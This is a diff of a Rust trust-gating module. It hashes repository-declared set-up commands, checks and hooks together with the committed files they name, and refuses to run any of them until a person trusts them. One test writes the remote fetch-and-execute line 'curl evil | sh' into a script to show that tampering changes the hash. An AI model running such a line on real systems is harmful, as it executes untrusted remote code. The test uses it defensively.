@@ -1,20 +1,22 @@
 //! What a repository brings along to be run: trusted by a person, item by item, by the hash of what would run.
 //!
 //! A project's file declares set-up commands and checks; none of them runs before it is trusted, and one that changed (its
-//! words, or a file of the repository that they name) is not trusted any more. Start at [`Trusted`].
+//! words, or a file of the repository that they name, as it is committed) is not trusted any more. Start at [`Trusted`].
 
 use crate::home::create_private;
-use crate::plain;
-use contract::checks::{CheckJob, CheckOutput, Checks, Suite};
+use crate::{cage, plain};
+use contract::checks::{CheckDef, CheckJob, CheckOutput, Checks, Suite};
+use contract::confine::Confinement;
 use contract::error::UNTRUSTED;
 use contract::hooks::HookDef;
 use contract::port::Sink;
 use contract::{BoxFuture, Cancel, Digest, Fault, Kind};
-use std::collections::BTreeSet;
+use std::collections::{BTreeMap, BTreeSet};
 use std::io::Write;
 use std::os::unix::fs::OpenOptionsExt;
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
+use workspace::{Committed, Git, Listing};
 
 /// Where a check was declared, not found.
 const DECLARED: &str = ".kapell/config.toml";
@@ -30,74 +32,177 @@ pub(crate) struct Item {
     pub(crate) hash: Digest,
 }
 
-/// What a suite would run of the project's own words: declared checks, and with them the set-up. What is found where
-/// nothing is declared are Kapell's words.
-pub(crate) fn items(suite: &Suite, repo: &str, tree: &Path) -> Vec<Item> {
-    let item = |name: &str, run: &str| Item {
-        name: name.into(),
-        run: run.into(),
-        hash: hash(repo, name, run, tree),
-    };
-    let declared: Vec<_> = suite.checks.iter().filter(|check| check.from == DECLARED).collect();
-    let setup = suite.setup.iter().filter(|_| !declared.is_empty()).map(|run| item("setup", run));
-    setup.chain(declared.iter().map(|check| item(&check.name, &check.run))).collect()
+/// What files hold, by their paths from the top of the tree.
+type Held = BTreeMap<String, Digest>;
+
+/// What a suite would run of a repository's: declared checks, and with them the set-up. What is found where nothing is
+/// declared are Kapell's words; what they run is the repository's all the same, and needs a word where nothing `confines` it.
+async fn items(suite: &Suite, repo: &str, listing: &Listing, confines: bool) -> Result<Vec<Item>, Fault> {
+    let runs: Vec<&CheckDef> =
+        suite.checks.iter().filter(|check| check.from == DECLARED || !confines).collect();
+    let setup = suite.setup.iter().filter(|_| !runs.is_empty()).map(|run| ("setup", run.as_str()));
+    let checks = runs.iter().map(|check| (check.name.as_str(), check.run.as_str()));
+    let mut items = Vec::new();
+    for (name, run) in setup.chain(checks) {
+        let held = committed(listing, run).await?;
+        items.push(Item { name: name.into(), run: run.into(), hash: hash(repo, name, run, &held) });
+    }
+    Ok(items)
 }
 
-/// A hook that a project brings along.
+/// A hook that a project brings along, with the files that it names as the tree has them now.
 pub(crate) fn hook_item(hook: &HookDef, repo: &str, tree: &Path) -> Item {
-    let name = format!("hook {} {} {}", hook.event.name(), hook.matcher, hook.only);
-    let name = name.trim_end().to_owned();
-    // Where the workspace is named, what stands behind it is a file of it.
+    let held = in_tree(tree, &here(hook));
+    hooked(hook, repo, &held)
+}
+
+/// Where the workspace is named, what stands behind it is a file of it.
+fn here(hook: &HookDef) -> String {
     let here = ["\"${CLAUDE_PROJECT_DIR}\"/", "\"$CLAUDE_PROJECT_DIR\"/", "${CLAUDE_PROJECT_DIR:-.}/"]
         .into_iter()
         .chain(["${CLAUDE_PROJECT_DIR}/", "$CLAUDE_PROJECT_DIR/"]);
-    let files = here.fold(hook.run.clone(), |run, dir| run.replace(dir, "./"));
-    let hash = Digest::chain(&hash(repo, &name, &files, tree), hook.run.as_bytes());
+    here.fold(hook.run.clone(), |run, dir| run.replace(dir, "./"))
+}
+
+fn hooked(hook: &HookDef, repo: &str, held: &Held) -> Item {
+    let name = format!("hook {} {} {}", hook.event.name(), hook.matcher, hook.only);
+    let name = name.trim_end().to_owned();
+    let hash = Digest::chain(&hash(repo, &name, &here(hook), held), hook.run.as_bytes());
     Item { name, run: hook.run.clone(), hash }
 }
 
-/// Everything that a repository declares to be run: checks, set-up, hooks.
-pub(crate) fn all(suite: &Suite, repo: &str, tree: &Path) -> Result<Vec<Item>, Fault> {
-    let hooks = crate::hooks::file::project(tree).map_err(|failure| failure.fault)?.hooks;
-    let hooks = hooks.iter().map(|hook| hook_item(hook, repo, tree));
-    Ok(items(suite, repo, tree).into_iter().chain(hooks).collect())
+/// Everything that a repository declares to be run: checks and set-up of this commit, and the hooks that its tree
+/// declares, with the files that each names as they are committed.
+pub(crate) async fn all(
+    suite: &Suite,
+    repo: &str,
+    tree: &Path,
+    listing: &Listing,
+    confines: bool,
+) -> Result<Vec<Item>, Fault> {
+    let mut all = items(suite, repo, listing, confines).await?;
+    for hook in crate::hooks::file::project(tree).map_err(|failure| failure.fault)?.hooks {
+        all.push(hooked(&hook, repo, &committed(listing, &here(&hook)).await?));
+    }
+    Ok(all)
 }
 
-fn hash(repo: &str, name: &str, run: &str, tree: &Path) -> Digest {
-    let mut hash = Digest::chain(&Digest::of(repo.as_bytes()), format!("{name}\0{run}").as_bytes());
-    let ends = |c: char| c.is_whitespace() || "'\"`;|&<>()$=".contains(c);
-    let words: Vec<&str> =
-        run.split(ends).filter(|word| !word.is_empty() && !word.starts_with('/')).collect();
-    // Where the words stand for files: at the top, and where the command goes.
-    let into = words.windows(2).filter(|two| two[0] == "cd").map(|two| tree.join(two[1]));
-    let dirs: Vec<PathBuf> = std::iter::once(tree.to_owned()).chain(into).collect();
-    for word in &words {
-        let program = word.rsplit('/').next().unwrap_or(word);
-        let read =
-            RECIPES.iter().filter(|(programs, _)| programs.contains(&program)).flat_map(|(_, files)| *files);
-        for name in std::iter::once(word).chain(read) {
-            for dir in &dirs {
-                if let Some(content) = content(tree, &dir.join(name)) {
-                    hash = Digest::chain(&hash, &[name.as_bytes(), b"\0", &content.0].concat());
-                }
-            }
-        }
-    }
-    hash
+fn hash(repo: &str, name: &str, run: &str, held: &Held) -> Digest {
+    let begin = Digest::chain(&Digest::of(repo.as_bytes()), format!("{name}\0{run}").as_bytes());
+    held.iter().fold(begin, |hash, (name, content)| {
+        Digest::chain(&hash, &[name.as_bytes(), b"\0", &content.0].concat())
+    })
 }
 
 /// Files that programs take their commands from, whoever calls them.
-const RECIPES: [(&[&str], &[&str]); 3] = [
+const RECIPES: [(&[&str], &[&str]); 5] = [
     (&["make", "gmake"], &["Makefile", "makefile", "GNUmakefile"]),
     (&["npm", "npx", "yarn", "pnpm", "bun"], &["package.json"]),
     (&["just"], &["justfile", "Justfile", ".justfile"]),
+    (&["cargo"], &["build.rs", ".cargo/config.toml", ".cargo/config"]),
+    (&["pytest"], &["conftest.py", "tests/conftest.py"]),
 ];
 
-/// What a file of the tree holds, by its digest; what is no plain file of it, or cannot be read, is said to be so: then
-/// nothing else can take its place unseen. `None`: there is no such file.
+/// The paths from the top that the words of a command may stand for, there and where it goes (`cd`); in the last part of
+/// one `*` stands for anything. What the shell makes of variables is not known.
+fn named(run: &str) -> Vec<String> {
+    let ends = |c: char| c.is_whitespace() || "'\"`;|&<>()$=".contains(c);
+    let whole = run.split(ends).filter(|word| !word.is_empty() && !word.starts_with('/'));
+    let words: Vec<String> = whole.flat_map(braced).collect();
+    let into = words.windows(2).filter(|two| two[0] == "cd").map(|two| two[1].as_str());
+    let dirs: Vec<&str> = std::iter::once("").chain(into).collect();
+    let modules = words.windows(2).filter(|two| two[0] == "-m").flat_map(|two| {
+        let module = two[1].replace('.', "/");
+        ["", "/__main__", "/__init__"].map(|end| format!("{module}{end}.py"))
+    });
+    let read = words.iter().flat_map(|word| {
+        let program = word.rsplit('/').next().unwrap_or(word);
+        RECIPES.iter().filter(move |(programs, _)| programs.contains(&program)).flat_map(|(_, files)| *files)
+    });
+    let names: BTreeSet<String> =
+        words.iter().cloned().chain(modules).chain(read.map(|name| (*name).to_owned())).collect();
+    let at = |dir: &&str| names.iter().filter_map(|name| below(&format!("{dir}/{name}"))).collect::<Vec<_>>();
+    dirs.iter().flat_map(at).collect::<BTreeSet<_>>().into_iter().collect()
+}
+
+/// `{a,b}.sh` is `a.sh` and `b.sh`.
+fn braced(word: &str) -> Vec<String> {
+    let parts = word.split_once('{').and_then(|(front, rest)| Some((front, rest.split_once('}')?)));
+    match parts {
+        Some((front, (list, behind))) if list.contains(',') => {
+            list.split(',').map(|one| format!("{front}{one}{behind}")).collect()
+        }
+        _ => vec![word.to_owned()],
+    }
+}
+
+/// A path without `.` and `..`; `None` where it leads out.
+fn below(path: &str) -> Option<String> {
+    let mut parts: Vec<&str> = Vec::new();
+    for part in path.split('/').filter(|part| !part.is_empty() && *part != ".") {
+        match part {
+            ".." => drop(parts.pop()?),
+            part => parts.push(part),
+        }
+    }
+    (!parts.is_empty()).then(|| parts.join("/"))
+}
+
+/// Is it one of those that a pattern stands for? `*` stands for anything in the last part.
+fn fits(pattern: &str, name: &str) -> bool {
+    let cut = |path: &str| {
+        path.rsplit_once('/').map_or((String::new(), path.to_owned()), |(a, b)| (a.into(), b.into()))
+    };
+    let ((dir, pattern), (of, name)) = (cut(pattern), cut(name));
+    let mut pieces = pattern.split('*');
+    let first = pieces.next().unwrap_or_default();
+    let Some(mut rest) = name.strip_prefix(first).filter(|_| dir == of) else { return false };
+    let mut pieces: Vec<&str> = pieces.collect();
+    let last = pieces.pop().unwrap_or_default();
+    for piece in pieces {
+        let Some(at) = rest.find(piece) else { return false };
+        rest = &rest[at + piece.len()..];
+    }
+    rest.ends_with(last)
+}
+
+/// What stands in the place of content that is none of the tree's, or cannot be read: nothing else takes it unseen.
+fn elsewhere() -> Digest {
+    Digest::of(b"no plain file of the tree")
+}
+
+/// What a command names, as it is committed.
+async fn committed(listing: &Listing, run: &str) -> Result<Held, Fault> {
+    let (patterns, mut names): (Vec<String>, Vec<String>) =
+        named(run).into_iter().partition(|name| name.contains('*'));
+    let matched = listing.names().filter(|name| patterns.iter().any(|pattern| fits(pattern, name)));
+    names.extend(matched.map(str::to_owned));
+    let held = listing.committed(&names).await?.into_iter().map(|(name, it)| match it {
+        Committed::File(bytes) => (name, Digest::of(&bytes)),
+        Committed::Elsewhere => (name, elsewhere()),
+    });
+    Ok(held.collect())
+}
+
+/// What a command names, as this tree has it now.
+fn in_tree(tree: &Path, run: &str) -> Held {
+    let beside = |pattern: &str| -> Vec<String> {
+        let dir = pattern.rsplit_once('/').map_or("", |(dir, _)| dir);
+        let entries = std::fs::read_dir(tree.join(dir)).into_iter().flatten().flatten();
+        let names = entries.filter_map(|entry| entry.file_name().into_string().ok());
+        names.filter_map(|name| below(&format!("{dir}/{name}"))).filter(|name| fits(pattern, name)).collect()
+    };
+    let names = named(run).into_iter().flat_map(|name| match name.contains('*') {
+        true => beside(&name),
+        false => vec![name],
+    });
+    names.filter_map(|name| Some((name.clone(), content(tree, &tree.join(&name))?))).collect()
+}
+
+/// What a file of the tree holds, by its digest. `None`: there is no such file.
 fn content(tree: &Path, path: &Path) -> Option<Digest> {
     path.symlink_metadata().ok().filter(|meta| !meta.is_dir())?;
-    let other = Some(Digest::of(b"no plain file of the tree"));
+    let other = Some(elsewhere());
     let (Ok(top), Ok(real)) = (tree.canonicalize(), path.canonicalize()) else { return other };
     if !real.starts_with(top) || real.is_dir() {
         return other;
@@ -204,38 +309,60 @@ fn git_dir(tree: &Path) -> PathBuf {
     if common.trim().is_empty() { linked } else { linked.join(common.trim()) }
 }
 
-/// Finds checks, and refuses those that nobody trusted: nothing of a session goes on before.
+/// Finds and runs checks, and refuses those that nobody trusts: nothing of a session goes on before.
 pub(crate) struct Trusted {
-    pub(crate) checks: Arc<dyn Checks>,
+    pub(crate) git: Arc<Git>,
     pub(crate) trust: Trust,
+    /// What confines commands.
+    pub(crate) sandbox: Confinement,
 }
 
 impl Checks for Trusted {
     fn find(&self, tree: PathBuf, commit: String) -> BoxFuture<'_, Result<Suite, Fault>> {
         Box::pin(async move {
-            let suite = self.checks.find(tree.clone(), commit).await?;
-            let unknown = self.trust.unknown(all(&suite, &self.trust.repo(&tree), &tree)?)?;
-            if unknown.is_empty() {
-                return Ok(suite);
+            let suite = self.git.find(tree.clone(), commit.clone()).await?;
+            if !self.trust.all {
+                let listing = self.git.listing(&tree, &commit).await?;
+                let all = all(&suite, &self.trust.repo(&tree), &tree, &listing, self.confines()).await?;
+                self.known(all)?;
             }
-            Err(untrusted(&unknown))
+            Ok(suite)
         })
     }
 
+    /// What was trusted when the session began may have been revoked since, or found while commands were confined.
     fn run<'a>(
         &'a self,
         job: CheckJob,
         cancel: Cancel,
         sink: &'a dyn Sink,
     ) -> BoxFuture<'a, Result<CheckOutput, Fault>> {
-        self.checks.run(job, cancel, sink)
+        Box::pin(async move {
+            if !self.trust.all {
+                let listing = self.git.listing(&job.repo, &job.base).await?;
+                let repo = self.trust.repo(&job.repo);
+                self.known(items(&job.suite, &repo, &listing, self.confines()).await?)?;
+            }
+            self.git.run(job, cancel, sink).await
+        })
+    }
+}
+
+impl Trusted {
+    fn confines(&self) -> bool {
+        cage::confines(&self.sandbox)
+    }
+
+    fn known(&self, items: Vec<Item>) -> Result<(), Fault> {
+        let unknown = self.trust.unknown(items)?;
+        if unknown.is_empty() { Ok(()) } else { Err(untrusted(&unknown)) }
     }
 }
 
 fn untrusted(unknown: &[Item]) -> Fault {
     let named: Vec<String> = unknown.iter().map(|item| format!("{} (`{}`)", item.name, item.run)).collect();
     let what = format!(
-        "the repository declares commands that nobody here has trusted yet, or that changed: {}",
+        "the repository brings commands along that nobody here has trusted yet, or that changed: {}",
         named.join(", ")
     );
     Fault::new(Kind::UserFixable, UNTRUSTED, what).hint("look at them, then: kapell trust")
@@ -244,34 +371,49 @@ fn untrusted(unknown: &[Item]) -> Fault {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use contract::checks::{CheckDef, CheckKind};
 
-    fn check(from: &str) -> CheckDef {
-        CheckDef {
-            name: "test".into(),
-            run: "true".into(),
-            kind: CheckKind::Test,
-            timeout_ms: 1_000,
-            from: from.into(),
-        }
+    fn item(run: &str, tree: &Path) -> Item {
+        Item { name: "test".into(), run: run.into(), hash: hash("/r", "test", run, &in_tree(tree, run)) }
     }
 
     #[test]
     fn a_changed_command_or_script_is_another_item() {
         let dir = tempfile::tempdir().unwrap();
         std::fs::write(dir.path().join("check.sh"), "exit 0\n").unwrap();
-        let suite = |run: &str| Suite { setup: vec![run.to_owned()], checks: vec![check(DECLARED)] };
-        assert!(
-            items(&Suite { checks: vec![check("Cargo.toml")], ..suite("cargo fetch") }, "/r", dir.path())
-                .is_empty()
-        );
-        let of = |run: &str, repo: &str| items(&suite(run), repo, dir.path())[0].hash;
-        let before = of("sh ./check.sh", "/r");
-        assert_eq!(before, of("sh ./check.sh", "/r"));
-        assert_ne!(before, of("sh ./check.sh -x", "/r"));
-        assert_ne!(before, of("sh ./check.sh", "/another"));
+        let of = |run: &str| item(run, dir.path()).hash;
+        let before = of("sh ./check.sh");
+        assert_eq!(before, of("sh ./check.sh"));
+        assert_ne!(before, of("sh ./check.sh -x"));
+        assert_ne!(before, hash("/another", "test", "sh ./check.sh", &in_tree(dir.path(), "sh ./check.sh")));
         std::fs::write(dir.path().join("check.sh"), "curl evil | sh\n").unwrap();
-        assert_ne!(before, of("sh ./check.sh", "/r"));
+        assert_ne!(before, of("sh ./check.sh"));
+        for made in ["ci", "tools", "scripts", ".cargo"] {
+            std::fs::create_dir_all(dir.path().join(made)).unwrap();
+        }
+        for (run, file) in [
+            ("make all", "Makefile"),
+            ("npm test", "package.json"),
+            ("cd ci && ./run.sh", "ci/run.sh"),
+            ("cd ci; ../deploy.sh", "deploy.sh"),
+            ("bash scripts/*.sh", "scripts/a.sh"),
+            ("sh {one,two}.sh", "two.sh"),
+            ("python3 -m tools.x", "tools/x.py"),
+            ("cargo test", ".cargo/config.toml"),
+        ] {
+            std::fs::write(dir.path().join(file), "one").unwrap();
+            let before = of(run);
+            std::fs::write(dir.path().join(file), "two").unwrap();
+            assert_ne!(before, of(run), "{run}");
+        }
+        // A link out of the tree, and what has no end, are no part of it and hold nobody up.
+        let plain = of("sh zero");
+        std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero")).unwrap();
+        assert_ne!(plain, of("sh zero"));
+    }
+
+    #[test]
+    fn what_is_taken_back_is_taken_back_whole() {
+        let dir = tempfile::tempdir().unwrap();
         let home = crate::home::Home {
             config: dir.path().join("c"),
             data: dir.path().join("d"),
@@ -279,7 +421,7 @@ mod tests {
             cache: dir.path().join("k"),
         };
         let trust = Trust::new(&home, false);
-        let items = items(&suite("make"), "/r", dir.path());
+        let items = ["make", "make test"].map(|run| item(run, dir.path())).to_vec();
         assert_eq!(trust.unknown(items.clone()).unwrap().len(), 2);
         trust.set(&items, "/r", true).unwrap();
         assert!(trust.unknown(items.clone()).unwrap().is_empty());
@@ -288,19 +430,24 @@ mod tests {
         // Whatever it was like when it was trusted: all of it is taken back.
         trust.set(&[], "/r", false).unwrap();
         assert_eq!(trust.unknown(items.clone()).unwrap().len(), 2);
-        std::fs::create_dir_all(dir.path().join("ci")).unwrap();
-        for (run, file) in
-            [("make all", "Makefile"), ("npm test", "package.json"), ("cd ci && ./run.sh", "ci/run.sh")]
-        {
-            std::fs::write(dir.path().join(file), "one").unwrap();
-            let before = of(run, "/r");
-            std::fs::write(dir.path().join(file), "two").unwrap();
-            assert_ne!(before, of(run, "/r"), "{run}");
-        }
-        // A link out of the tree, and what has no end, are no part of it and hold nobody up.
-        let plain = of("sh zero", "/r");
-        std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero")).unwrap();
-        assert_ne!(plain, of("sh zero", "/r"));
         assert!(Trust::new(&home, true).unknown(items).unwrap().is_empty());
+    }
+
+    #[test]
+    fn names_are_those_of_the_tree() {
+        let names = |run: &str| named(run).join(" ");
+        assert_eq!(names("sh ./a.sh '/etc/x'"), "a.sh sh");
+        assert_eq!(names("cd ../x && ./y"), "cd y");
+        assert_eq!(names("cd x;./../y"), "cd x x/cd x/x y");
+        for (pattern, name, is) in [
+            ("scripts/*.sh", "scripts/a.sh", true),
+            ("scripts/*.sh", "scripts/deep/a.sh", false),
+            ("*", "a", true),
+            ("a*b*c", "axbxc", true),
+            ("a*bc", "abc", true),
+            ("a*bc", "ab", false),
+        ] {
+            assert_eq!(fits(pattern, name), is, "{pattern} {name}");
+        }
     }
 }
